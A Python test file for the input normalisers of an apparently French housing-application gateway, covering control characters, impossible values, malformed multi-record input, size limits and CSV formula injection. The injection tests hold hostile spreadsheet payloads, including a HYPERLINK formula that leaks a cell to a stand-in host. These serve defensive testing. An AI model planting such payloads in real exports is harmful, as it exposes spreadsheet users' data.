"""Issue 10 item 6 (normalisers): impossible values, control characters, CSV formula injection,
multi-record inputs where one part is bad, mostly-garbage inputs, size bounds per format."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from gateway.normalise import MAX_INPUT_BYTES, Rejection, cdc_json, normalise
from gateway.normalise.limits import GARBAGE_MIN_PARTS, MAX_BYTES, MAX_PROBLEMS

from .helpers import DEMANDE, records, rejections, round_trip

WHEN = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
SOURCE = {"name": "erp-test", "db": "erp", "table": "demande", "ts_ms": 1768383120000}
CAL_HEADER = "numUnique;siren;commission;dateCommission;rang;decision;motifs\n"
CAL_LINE = "03526010000000000{i};200000001;CAL-RH-01;05/03/2026;{i};d;{motifs}\n"


def cdc_demande(document: dict[str, Any] | None = None, **row: Any) -> dict[str, Any]:
    doc = {k: v for k, v in (document or DEMANDE).items() if k not in ("numGuichet", "dateCreationDemande")}
    after = {
        "id": "ERP-1",
        "num_unique": "035260100000000001",
        "num_guichet": "G3501",
        "date_creation_demande": "2026-01-14",
        "origine": "200000001",
        "date_maj": "2026-01-14T10:00:00+01:00",
        "document": json.dumps(doc),
        **row,
    }
    return {"after": after, "source": SOURCE, "op": "c"}


def with_demandeur(**fields: Any) -> dict[str, Any]:
    doc = copy.deepcopy(DEMANDE)
    doc["personnePhysique"]["demandeur"].update(fields)
    return doc


def cdc(value: Any) -> list[Any]:
    return normalise("cdc-json", json.dumps(value).encode(), received_at=WHEN)


def reasons(outcomes: list[Any]) -> dict[str, str]:
    return {p.path: p.reason for r in rejections(outcomes) for p in r.problems}


# -- control characters --------------------------------------------------------------------------
@pytest.mark.parametrize("char", ["\x00", "\x01", "\x07", "\x1b", "\x7f", "\x85", "\ufffe"])
def test_a_control_character_in_a_name_is_rejected_with_path_and_reason(char: str) -> None:
    out = cdc(cdc_demande(with_demandeur(nom=f"Dup{char}ont")))
    assert not records(out)
    assert reasons(out) == {"after.document/personnePhysique/demandeur/nom": "control character not allowed"}


def test_a_line_break_is_refused_in_a_name_but_allowed_in_free_text_reasons() -> None:
    out = cdc(cdc_demande(with_demandeur(prenom="Anne\nMarie")))
    assert reasons(out) == {
        "after.document/personnePhysique/demandeur/prenom": "control character not allowed"
    }
    csv = CAL_HEADER + CAL_LINE.format(i=1, motifs='"ressources\ninsuffisantes"')
    out = normalise("cal-csv", csv.encode(), received_at=WHEN)
    assert not rejections(out) and len(records(out)) == 1


@pytest.mark.parametrize("fmt", ["siao-json", "comed-json"])
def test_control_characters_are_refused_in_every_json_format(fmt: str) -> None:
    if fmt == "siao-json":
        doc = {
            "idEvenement": "S-1",
            "typeEvenement": "ORIENTATION_SIAO",
            "siao": "300000035",
            "numUnique": "035260100000000014",
            "dateEvenement": "2026-03-03T11:20:00+01:00",
            "orientation": {"dateOrientation": "2026-03-03", "enHebergement": True, "structure": "CHRS\x02"},
        }
        path = "orientation.structure"
    else:
        doc = {
            "idDecision": "C-1",
            "secretariat": "130000035",
            "commission": "COMED\x1f35",
            "numUnique": "035260100000000010",
            "dateDecision": "2026-04-16",
            "sens": "FAVORABLE",
            "statut": "ACTIF",
        }
        path = "commission"
    out = normalise(fmt, json.dumps(doc).encode(), received_at=WHEN)
    assert reasons(out) == {path: "control character not allowed"}


# -- impossible values ---------------------------------------------------------------------------
def test_creation_date_in_2517_is_refused_as_debezium_days_and_as_text() -> None:
    days_2517 = (datetime(2517, 1, 1, tzinfo=UTC).date() - datetime(1970, 1, 1, tzinfo=UTC).date()).days
    for value in (days_2517, "2517-01-01"):
        out = cdc(cdc_demande(date_creation_demande=value))
        assert reasons(out) == {"after.date_creation_demande": "impossible date"}, value


def test_birth_date_in_the_future_is_refused() -> None:
    out = cdc(cdc_demande(with_demandeur(dateNaissance="2199-01-01")))
    assert reasons(out) == {"after.document/personnePhysique/demandeur/dateNaissance": "date in the future"}


def test_a_birth_date_today_is_accepted() -> None:
    out = cdc(cdc_demande(with_demandeur(dateNaissance="2026-11-26")))
    assert records(out) and not rejections(out)


@pytest.mark.parametrize("amount", ["-0.00", "-0", "-0,00", -0.0])
def test_negative_zero_amount_is_refused(amount: Any) -> None:
    doc = copy.deepcopy(DEMANDE)
    doc["personnePhysique"]["demandeur"]["listeRessourceRecue"] = [{"ressource": "SAL", "montant": amount}]
    out = cdc(cdc_demande(doc))
    path = "after.document/personnePhysique/demandeur/listeRessourceRecue/detailRessource[1]/montant"
    assert reasons(out) == {path: "negative amount"}


ARABIC_INDIC = "٣٥٢٣٨"  # 35238 in Arabic-Indic digits


def test_arabic_indic_digits_are_refused_in_a_commune_code() -> None:
    doc = copy.deepcopy(DEMANDE)
    doc["personnePhysique"]["demandeur"]["adressePostale"]["commune"] = ARABIC_INDIC
    doc["logementRecherche"]["listeLocalisationSouhaite"] = [{"commune": ARABIC_INDIC}]
    out = cdc(cdc_demande(doc))
    assert reasons(out) == {
        "after.document/personnePhysique/demandeur/adressePostale/commune": "bad format",
        "after.document/logementRecherche/listeLocalisationSouhaite/localisationSouhaite[1]/commune": (
            "not a numeric INSEE code"
        ),
    }


@pytest.mark.parametrize(
    ("field", "value"),
    [("rang", "٣"), ("siren", "٢٠٠٠٠٠٠٠١"), ("numUnique", "٠٣٥٢٦٠١٠٠٠٠٠٠٠٠٠٠١")],
)
def test_arabic_indic_digits_are_refused_in_any_code_or_number(field: str, value: str) -> None:
    row = {
        "numUnique": "035260100000000001",
        "siren": "200000001",
        "commission": "CAL",
        "dateCommission": "05/03/2026",
        "rang": "1",
        "decision": "d",
        "motifs": "x",
    }
    row[field] = value
    csv = CAL_HEADER + ";".join(row.values()) + "\n"
    out = normalise("cal-csv", csv.encode(), received_at=WHEN)
    assert not records(out)
    assert field in {p.path for r in rejections(out) for p in r.problems}


def orientation(departement: str) -> list[Any]:
    doc = {
        "idEvenement": "S-1",
        "typeEvenement": "ORIENTATION_SIAO",
        "siao": "300000035",
        "numUnique": "035260100000000014",
        "dateEvenement": "2026-03-03T11:20:00+01:00",
        "orientation": {"dateOrientation": "2026-03-03", "enHebergement": True, "departement": departement},
    }
    return normalise("siao-json", json.dumps(doc).encode(), received_at=WHEN)


@pytest.mark.parametrize("departement", ["999", "00", "20", "96", "970", "٣٥"])
def test_impossible_departements_are_refused(departement: str) -> None:
    assert reasons(orientation(departement)) == {"orientation.departement": "bad format"}


@pytest.mark.parametrize("departement", ["01", "35", "2A", "2B", "95", "971", "976"])
def test_real_departements_including_corsica_are_accepted(departement: str) -> None:
    out = orientation(departement)
    assert not rejections(out)
    assert round_trip(records(out)[0])["orientation"]["departement"] == departement


# -- CSV formula injection -----------------------------------------------------------------------
@pytest.mark.parametrize(
    "payload", ['=HYPERLINK("http://x.example/?a="&A1;"clic")', "+1+cmd", "-2+3", "@SUM(A1)"]
)
def test_cal_csv_formula_is_neutralised_in_free_text(payload: str) -> None:
    cell = '"' + payload.replace('"', '""') + '"'
    csv = CAL_HEADER + CAL_LINE.format(i=1, motifs=cell)
    out = normalise("cal-csv", csv.encode(), received_at=WHEN)
    rec = round_trip(records(out)[0])
    assert rec["decisionCal"]["motifs"] == "'" + payload
    assert rec["decisionCal"]["motifs"][0] not in "=+-@\t\r"


def test_formula_characters_inside_a_text_are_kept() -> None:
    csv = CAL_HEADER + CAL_LINE.format(i=1, motifs="taux d'effort > 40 % = refus")
    rec = round_trip(records(normalise("cal-csv", csv.encode(), received_at=WHEN))[0])
    assert rec["decisionCal"]["motifs"] == "taux d'effort > 40 % = refus"


# -- one bad part of a multi-record input --------------------------------------------------------
def test_an_unbalanced_quote_in_one_cal_line_rejects_only_that_line() -> None:
    lines = [CAL_LINE.format(i=i, motifs="ressources") for i in range(1, 6)]
    lines[1] = '035260100000000002;200000001;"CAL-RH-01;05/03/2026;2;d;ressources\n'
    data = (CAL_HEADER + "".join(lines)).encode()
    out = normalise("cal-csv", data, received_at=WHEN)
    assert len(records(out)) == 4
    [bad] = rejections(out)
    assert bad.locator == "line 3" and bad.fragment == lines[1].encode()


def test_a_quoted_field_over_two_lines_is_still_one_record() -> None:
    lines = [CAL_LINE.format(i=i, motifs="x") for i in range(1, 4)]
    lines[1] = CAL_LINE.format(i=2, motifs='"deux\nlignes"')
    out = normalise("cal-csv", (CAL_HEADER + "".join(lines)).encode(), received_at=WHEN)
    assert len(records(out)) == 3 and not rejections(out)


def test_one_broken_element_of_a_cdc_array_rejects_only_that_element() -> None:
    good = json.dumps(cdc_demande())
    broken = good[: len(good) // 2]  # truncated element
    data = ("[\n" + ",\n".join([good, broken, good]) + "\n]").encode()
    out = normalise("cdc-json", data, received_at=WHEN)
    assert len(records(out)) == 2
    [bad] = rejections(out)
    assert bad.locator == "$[1]" and bad.fragment is not None
    assert bad.fragment.strip(b",\n ") == broken.encode()


def test_one_internal_error_in_a_part_rejects_only_that_part(monkeypatch: pytest.MonkeyPatch) -> None:
    real = cdc_json._one

    def flaky(ctx: Any, value: Any, received_at: datetime) -> Any:
        if value["after"]["id"] == "BOOM":
            raise ZeroDivisionError
        return real(ctx, value, received_at)

    monkeypatch.setattr(cdc_json, "_one", flaky)
    parts = [cdc_demande(), cdc_demande(id="BOOM"), cdc_demande(id="ERP-3")]
    out = normalise("cdc-json", "\n".join(json.dumps(p) for p in parts).encode(), received_at=WHEN)
    assert len(records(out)) == 2
    [bad] = rejections(out)
    assert bad.locator == "line 2" and [p.reason for p in bad.problems] == [
        "cannot be normalised (internal error)"
    ]


# -- mostly garbage ------------------------------------------------------------------------------
def test_a_garbage_file_is_one_dead_letter_with_a_count() -> None:
    garbage = b"".join(b"\x8f\x00garbage %d }{ not json\n" % i for i in range(5000))
    out = normalise("cdc-json", garbage, received_at=WHEN)
    assert len(out) == 1 and isinstance(out[0], Rejection)
    [summary, *_] = out[0].problems
    assert (summary.path, summary.reason) == ("$", "mostly unreadable: 5000 of 5000 parts rejected")
    assert out[0].locator == "$" and out[0].fragment is None


def test_a_file_with_a_few_bad_parts_keeps_them_separate() -> None:
    good = json.dumps(cdc_demande())
    lines = [good] * 30 + ["{not json"] * (GARBAGE_MIN_PARTS - 1)
    out = normalise("cdc-json", "\n".join(lines).encode(), received_at=WHEN)
    assert len(records(out)) == 30 and len(rejections(out)) == GARBAGE_MIN_PARTS - 1


def test_many_bad_parts_that_are_a_minority_stay_separate() -> None:
    good = json.dumps(cdc_demande())
    lines = [good] * (3 * GARBAGE_MIN_PARTS) + ["{not json"] * GARBAGE_MIN_PARTS
    out = normalise("cdc-json", "\n".join(lines).encode(), received_at=WHEN)
    assert len(rejections(out)) == GARBAGE_MIN_PARTS


# -- size bounds per format ----------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["cal-csv", "cdc-json", "siao-json", "comed-json", "sne-xml"])
def test_each_format_has_a_size_bound_with_a_clear_rejection(fmt: str) -> None:
    limit = MAX_BYTES[fmt]
    assert limit <= MAX_INPUT_BYTES
    out = normalise(fmt, b" " * (limit + 1), received_at=WHEN)
    [rej] = out
    assert isinstance(rej, Rejection)
    assert [(p.path, p.reason, p.value) for p in rej.problems] == [
        ("$", "too large", f"{limit + 1} bytes, limit {limit} for {fmt}")
    ]


# -- problems never quote a value that is not a code of the list checked (item 5) -----------------
@pytest.mark.parametrize("value", ["0612345678", "31200", "19900214", "DUPONT", "X", "AB_1"])
def test_an_unknown_code_is_never_quoted(value: str) -> None:
    out = cdc(cdc_demande(with_demandeur(civilite=value)))
    [problem] = [p for r in rejections(out) for p in r.problems]
    assert problem.path == "after.document/personnePhysique/demandeur/civilite"
    assert problem.reason == "unknown code for ListeCivilite"
    assert problem.value == ("1 character" if len(value) == 1 else f"{len(value)} characters")


def test_an_unknown_table_or_op_is_not_quoted() -> None:
    value = cdc_demande()
    value["source"] = {**SOURCE, "table": "Martine Dupont née le 14/02/1990"}
    [rej] = rejections(cdc(value))
    assert [(p.path, p.reason, p.value) for p in rej.problems] == [
        ("source.table", "unknown table (expected demande or evenement)", "32 characters")
    ]
    value = cdc_demande()
    value["op"] = "Z"
    [rej] = rejections(cdc(value))
    assert [(p.path, p.reason, p.value) for p in rej.problems] == [
        ("op", "unknown Debezium op (c, u, r or d)", "1 character")
    ]


def test_an_old_reception_time_does_not_make_a_real_birth_date_future() -> None:
    epoch = datetime(1970, 1, 1, tzinfo=UTC)  # a Kafka timestamp of 0, or a very old record
    data = json.dumps(cdc_demande(with_demandeur(dateNaissance="1990-02-14"))).encode()
    assert records(normalise("cdc-json", data, received_at=epoch))


def test_a_part_with_thousands_of_problems_keeps_the_first_ones_and_a_count() -> None:
    doc = copy.deepcopy(DEMANDE)
    doc["logementRecherche"]["listeTypeLogement"] = ["ZZ"] * 5000
    [rej] = rejections(cdc(cdc_demande(doc)))
    assert len(rej.problems) == MAX_PROBLEMS + 1
    last = rej.problems[-1]
    assert (last.path, last.reason) == ("$", f"{5000 - MAX_PROBLEMS} more problems not listed")
